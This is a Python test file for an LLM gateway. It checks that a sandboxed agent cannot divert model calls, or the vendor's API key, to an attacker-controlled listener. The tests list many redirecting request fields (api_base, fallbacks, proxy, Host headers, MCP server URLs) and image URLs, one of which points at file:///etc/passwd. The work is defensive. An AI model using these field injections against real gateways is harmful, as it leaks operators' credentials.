"""A sandbox tries to get the vendor's key through the fields of its model calls. Only the vendor may get the
key.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from uuid import uuid4

import httpx
import pytest
from starlette.types import Receive, Scope, Send

from app_server.conversations.models import Conversation
from app_server.core.errors import BadGateway
from app_server.llm_gateway.forwarding.contents import UNFETCHED_IMAGE
from app_server.llm_gateway.forwarding.translate import translate
from app_server.llm_gateway.forwarding.vendors import Translated
from app_server.sandbox_records.models import Sandbox, SandboxStatus
from app_server.settings.profiles import save_profile
from app_server.settings.schemas import LLMSettings
from app_server.users.models import User
from app_server.users.tokens import new_token, token_hash
from tests.app_server.conftest import (  # noqa: F401 (fixtures)
    App,
    app,
    config,
    http_client,
    listening,
    no_outer_configuration,
    owner,
)
from tests.app_server.problems import assert_problem
from tests.support.patience import PATIENCE_SECONDS

KEY = "sk-canary-4c1b"
ASK: dict[str, Any] = {"model": "ignored", "messages": [{"role": "user", "content": "hello"}]}
CALL = "/llm/vendor/v1/chat/completions"
IMAGE = "data:image/png;base64,iVBORw0KGgo="

# The warnings come from litellm's own code, not from our code.
pytestmark = pytest.mark.filterwarnings("ignore")


class Listener:
    """An HTTP server that answers every request as a vendor could. heard: the requests that it received."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.url = ""
        self.redirect_to = ""

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        head = scope["path"].encode() + scope["query_string"] + repr(scope["headers"]).encode()
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        self.heard.append(head + body)
        status, headers = 200, [(b"content-type", b"application/json")]
        if self.redirect_to:
            status, headers = 307, [(b"location", self.redirect_to.encode() + scope["path"].encode())]
        await send({"type": "http.response.start", "status": status, "headers": headers})
        await send({"type": "http.response.body", "body": json.dumps(_reply(scope["path"])).encode()})


def _reply(path: str) -> dict[str, Any]:
    if path.endswith("/messages"):
        return {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": "m",
            "content": [{"type": "text", "text": "good day"}],
            "stop_reason": "end_turn",
            "usage": {"input_tokens": 3, "output_tokens": 2},
        }
    choice = {"index": 0, "message": {"role": "assistant", "content": "good day"}, "finish_reason": "stop"}
    return {"id": "c", "object": "chat.completion", "created": 0, "model": "m", "choices": [choice]}


@asynccontextmanager
async def _listener() -> AsyncIterator[Listener]:
    one = Listener()
    async with listening(one) as url:
        one.url = url
        yield one


@pytest.fixture
async def attacker() -> AsyncIterator[Listener]:
    async with _listener() as one:
        yield one


@pytest.fixture
async def vendor() -> AsyncIterator[Listener]:
    async with _listener() as one:
        yield one


@pytest.fixture
async def sandbox(app: App, owner: User) -> AsyncIterator[httpx.AsyncClient]:  # noqa: F811
    """Yields an HTTP client with the session key of a process sandbox, as an agent in this sandbox can use
    it.
    """
    key, conversation_id = new_token(), uuid4()
    async with app.database.session() as session:
        conversation = Conversation(
            id=conversation_id, user_id=owner.id, llm_profile="vendor", last_seq=0, working_dir="/w"
        )
        row = Sandbox(
            id=conversation_id,
            user_id=owner.id,
            status=SandboxStatus.PAUSED,
            session_key_hash=token_hash(key),
            encrypted_session_key=app.state["cipher"].encrypt(key),
            spec_id="process",
        )
        session.add_all([conversation, row])
    async with http_client(app.inner, headers={"Authorization": f"Bearer {key}"}) as client:
        yield client


async def _profile(app: App, owner: User, model: str, base_url: str) -> None:  # noqa: F811
    llm = LLMSettings.model_validate({"model": model, "base_url": base_url, "api_key": KEY})
    async with app.database.session() as session:
        await save_profile(session, app.state["cipher"], owner.id, "vendor", llm)


def _led_away(url: str) -> list[dict[str, Any]]:
    """Returns fields of model calls that try to send the call to `url` instead of to the
    configured vendor.
    """
    elsewhere = {"model": "anthropic/claude-sonnet-4-5", "base_url": url}
    bedrock = "bedrock/anthropic.claude-3-sonnet-20240229-v1:0"
    return [
        {"api_base": url},
        {"base_url": url},
        {"fallbacks": [elsewhere]},
        {"fallbacks": [{"model": "openai/x", "api_base": url}]},
        {"context_window_fallback_dict": {"claude-sonnet-4-5": "openai/x"}},
        {"model_list": [{"model_name": "x", "litellm_params": elsewhere}]},
        {"model": bedrock, "aws_bedrock_runtime_endpoint": url},
        {"custom_llm_provider": "openai", "api_base": url},
        {"extra_headers": {"Host": url}},
        {"headers": {"Host": url}},
        {"extra_body": {"api_base": url}},
        {"litellm_credential_name": "x", "api_version": "x", "aws_region_name": "x"},
        {"vertex_credentials": json.dumps({"token_uri": url})},
        {"models": ["someone/else"], "route": "fallback"},
        {"provider": {"order": ["elsewhere"]}},
        {"proxy": url},
        {"client": url},
        {"guardrails": [url], "prompt_id": "x", "langfuse_host": url, "callbacks": ["langfuse"]},
        {"metadata": {"fallbacks": [elsewhere]}},
        {"stream_options": {"include_usage": True, "api_base": url}},
        {"tools": [{"type": "mcp", "server_url": url, "server_label": "x"}]},
        {"tools": [{"type": "function", "function": {"name": "x"}, "server_url": url}]},
        {"response_format": {"type": "json_object", "api_base": url}},
        {"thinking": {"type": "enabled", "budget_tokens": 2000, "api_base": url}},
        {"web_search_options": {}},
        {"mcp_servers": [{"type": "url", "url": url, "name": "x"}]},
    ]


@pytest.mark.parametrize("model", ["anthropic/claude-sonnet-4-5", "openai/vendor-model"])
async def test_no_field_leads_a_call_elsewhere(
    app: App,  # noqa: F811
    owner: User,  # noqa: F811
    sandbox: httpx.AsyncClient,
    vendor: Listener,
    attacker: Listener,
    model: str,
) -> None:
    await _profile(app, owner, model, vendor.url)
    for fields in _led_away(attacker.url):
        reply = await sandbox.post(CALL, json={**ASK, **fields})
        assert reply.status_code in {400, 422}, (fields, reply.text)
        assert KEY not in reply.text
        assert reply.json()["code"] in {"unknown_model_field", "validation_failed"}

    assert (attacker.heard, vendor.heard) == ([], [])
    assert (await sandbox.post(CALL, json=ASK)).status_code == 200
    assert len(vendor.heard) == 1
    assert KEY.encode() in vendor.heard[0]


@pytest.mark.parametrize("name", ["fallbacks", "litellm_extra_field", "api_base"])
async def test_a_field_that_is_not_known_is_named(
    app: App,  # noqa: F811
    owner: User,  # noqa: F811
    sandbox: httpx.AsyncClient,
    vendor: Listener,
    name: str,
) -> None:
    await _profile(app, owner, "openai/vendor-model", vendor.url)
    reply = await sandbox.post(CALL, json={**ASK, name: []})
    assert_problem(reply, 400, "unknown_model_field")
    assert name in reply.json()["detail"]


async def test_addresses_in_messages_are_not_fetched(
    app: App,  # noqa: F811
    owner: User,  # noqa: F811
    sandbox: httpx.AsyncClient,
    vendor: Listener,
    attacker: Listener,
) -> None:
    await _profile(app, owner, "anthropic/claude-sonnet-4-5", vendor.url)
    here = f"{attacker.url}/secret.png"
    for part in (
        {"type": "image_url", "image_url": {"url": here}},
        {"type": "image_url", "image_url": here},
        {"type": "image_url", "image_url": {"url": "file:///etc/passwd"}},
    ):
        text = {"type": "text", "text": "look"}
        ask = {"messages": [{"role": "user", "content": [text, part]}]}
        assert (await sandbox.post(CALL, json=ask)).status_code == 200
        assert UNFETCHED_IMAGE.encode() in vendor.heard[-1]
    for part in (
        {"type": "file", "file": {"file_id": here}},
        {"type": "video_url", "video_url": {"url": here}},
        {"type": "document", "source": {"type": "url", "url": here}},
        {"type": "image_url", "image_url": {"url": IMAGE, "api_base": here}},
    ):
        reply = await sandbox.post(CALL, json={"messages": [{"role": "user", "content": [part]}]})
        assert_problem(reply, 400, "unknown_model_field")
    assert attacker.heard == []

    ask = {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": IMAGE}}]}]}
    assert (await sandbox.post(CALL, json=ask)).status_code == 200
    assert b"iVBORw0KGgo" in vendor.heard[-1]


@pytest.mark.parametrize("model", ["anthropic/claude-sonnet-4-5", "openai/vendor-model"])
async def test_a_vendor_that_redirects_does_not_take_the_key_along(
    app: App,  # noqa: F811
    owner: User,  # noqa: F811
    sandbox: httpx.AsyncClient,
    vendor: Listener,
    attacker: Listener,
    model: str,
) -> None:
    vendor.redirect_to = attacker.url
    await _profile(app, owner, model, vendor.url)
    reply = await sandbox.post(CALL, json=ASK)
    assert reply.status_code >= 400
    assert attacker.heard == []


async def test_litellm_itself_reaches_only_the_place_of_the_profile(
    monkeypatch: pytest.MonkeyPatch, vendor: Listener, attacker: Listener
) -> None:
    """If a field with another address passed the gateway's checks, litellm would still send nothing to this
    address.
    """
    there = Translated("anthropic/claude-sonnet-4-5", vendor.url)
    reply = await translate(there, ASK, api_key=KEY, timeout_seconds=PATIENCE_SECONDS)
    assert reply.status_code == 200
    import litellm  # loaded the way the gateway loads it

    given = litellm.completion

    def led_away(**arguments: Any) -> Any:
        return given(**{**arguments, **fields, "base_url": fields.get("base_url", arguments["base_url"])})

    monkeypatch.setattr(litellm, "completion", led_away)
    fallback = {"model": "anthropic/claude-sonnet-4-5", "base_url": attacker.url, "api_key": KEY}
    for fields in (
        {"base_url": attacker.url},
        {"base_url": attacker.url, "stream": True},
        {"api_base": attacker.url, "base_url": None},
        {"model": "openai/x", "base_url": attacker.url},
        {"model": "azure/x", "base_url": attacker.url},
        {"base_url": f"{attacker.url}/x", "fallbacks": [fallback]},
    ):
        try:
            reply = await translate(there, ASK, api_key=KEY, timeout_seconds=PATIENCE_SECONDS)
        except BadGateway:
            continue
        assert reply.status_code >= 400, fields
    assert attacker.heard == []


async def test_calls_side_by_side_keep_to_their_own_places(vendor: Listener) -> None:
    async with _listener() as other:
        places = [Translated("anthropic/claude-sonnet-4-5", one.url) for one in (vendor, other) * 4]
        replies = await asyncio.gather(
            *(translate(one, ASK, api_key=KEY, timeout_seconds=PATIENCE_SECONDS) for one in places)
        )
        assert [reply.status_code for reply in replies] == [200] * 8
        assert (len(vendor.heard), len(other.heard)) == (4, 4)
